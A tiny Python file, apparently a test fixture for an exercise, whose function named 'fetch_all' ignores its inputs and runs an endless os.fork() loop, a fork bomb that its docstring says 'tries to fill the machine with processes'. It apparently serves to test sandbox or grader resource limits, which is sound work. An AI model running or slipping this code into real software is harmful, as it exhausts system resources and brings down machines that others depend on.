"""Tries to fill the machine with processes."""

# %% exercise:fetch_all

import os


async def fetch_all(fetch, names):
    while True:
        try:
            os.fork()
        except OSError:
            pass
